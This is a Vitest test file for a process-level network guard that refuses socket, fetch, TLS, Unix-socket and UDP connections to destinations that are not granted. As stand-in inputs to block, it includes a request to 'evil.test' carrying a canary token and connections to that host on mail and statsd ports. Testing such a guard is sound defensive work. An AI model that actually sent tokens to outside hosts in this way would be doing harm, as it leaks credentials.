import dgram from 'node:dgram';
import dns from 'node:dns';
import { createServer, get } from 'node:http';
import { type AddressInfo, connect, createServer as createTcpServer, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import type { Log } from '@socle/kernel';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { guardProcess } from './process-guard.ts';

const refused: unknown[] = [];
const nothing = (): void => undefined;
const log: Log = {
  debug: nothing,
  info: nothing,
  error: nothing,
  warn: ({ destination }) => {
    refused.push(destination);
  },
};
let closing: (() => unknown)[] = [];
let port = 0;
let hits = 0;

beforeEach(async () => {
  hits = 0;
  refused.length = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  closing = [() => new Promise((resolve) => server.close(resolve))];
});

afterEach(async () => {
  vi.restoreAllMocks();
  for (const close of closing.reverse()) await close();
});

function guard(allow: (host: string, port: number) => boolean): void {
  closing.push(guardProcess({ allow, log }));
}

function failure(socket: {
  once(event: 'error', listen: (error: unknown) => void): unknown;
}): Promise<unknown> {
  return new Promise((resolve) => socket.once('error', resolve));
}

const DENIED = expect.objectContaining({ code: 'permission_denied' });

describe('guardProcess', () => {
  it('refuses every way to open a socket before a name is resolved', async () => {
    const lookup = vi.spyOn(dns, 'lookup');
    guard(() => false);
    await expect(fetch('https://evil.test/?token=canary')).rejects.toMatchObject({ cause: DENIED });
    expect(await failure(get('http://evil.test/'))).toEqual(DENIED);
    expect(await failure(connect(25, 'evil.test'))).toEqual(DENIED);
    expect(await failure(connect({ host: 'evil.test', port: 25 }))).toEqual(DENIED);
    expect(await failure(connectTls({ host: 'evil.test', port: 465 }))).toEqual(DENIED);
    expect(await failure(connect(port))).toEqual(DENIED);
    expect(lookup).not.toHaveBeenCalled();
    expect(hits).toBe(0);
    expect(refused).toEqual([
      'evil.test:443',
      'evil.test:80',
      'evil.test:25',
      'evil.test:25',
      'evil.test:465',
      `localhost:${port}`,
    ]);
  });

  it('lets granted destinations through, host and port both', async () => {
    guard((host, at) => host === '127.0.0.1' && at === port);
    expect((await fetch(`http://127.0.0.1:${port}/`)).status).toBe(200);
    await expect(fetch(`http://127.0.0.1:${port + 1}/`)).rejects.toMatchObject({ cause: DENIED });
    await expect(fetch(`http://127.0.0.2:${port}/`)).rejects.toMatchObject({ cause: DENIED });
  });

  it('refuses unix sockets unless granted', async () => {
    const path = `/tmp/socle-guard-${process.pid}-${port}`;
    const server = createTcpServer((socket) => socket.end());
    await new Promise<void>((resolve) => server.listen(path, resolve));
    closing.push(() => new Promise((resolve) => server.close(resolve)));
    const release = guardProcess({ allow: () => false, log });
    expect(await failure(connect(path))).toEqual(DENIED);
    expect(await failure(connect({ path }))).toEqual(DENIED);
    release();
    guard((host) => host === `unix:${path}`);
    const socket: Socket = connect(path);
    await new Promise<void>((resolve) => socket.once('connect', resolve));
    socket.destroy();
  });

  it('knows an address by the granted name that it was resolved from', async () => {
    guard((host, at) => host === 'localhost' && at === port);
    await expect(fetch(`http://127.0.0.1:${port}/`)).rejects.toMatchObject({ cause: DENIED });
    const { address } = await dns.promises.lookup('localhost', 4);
    expect((await fetch(`http://${address}:${port}/`)).status).toBe(200);
    await expect(fetch(`http://${address}:${port + 1}/`)).rejects.toMatchObject({ cause: DENIED });
  });

  it('refuses datagrams', async () => {
    guard(() => false);
    const socket = dgram.createSocket('udp4');
    closing.push(() => socket.close());
    const error = await new Promise((resolve) => socket.send('x', 8125, 'evil.test', resolve));
    expect(error).toEqual(DENIED);
    const thrown = failure(socket);
    socket.send(Buffer.from('xx'), 0, 1, 8125, 'evil.test');
    expect(await thrown).toEqual(DENIED);
    expect(refused).toEqual(['evil.test:8125', 'evil.test:8125']);
  });

  it('gives everything back', async () => {
    const before = [dns.lookup, dns.promises.resolve4];
    guardProcess({ allow: () => false, log })();
    expect([dns.lookup, dns.promises.resolve4]).toEqual(before);
    expect((await fetch(`http://127.0.0.1:${port}/`)).status).toBe(200);
  });
});
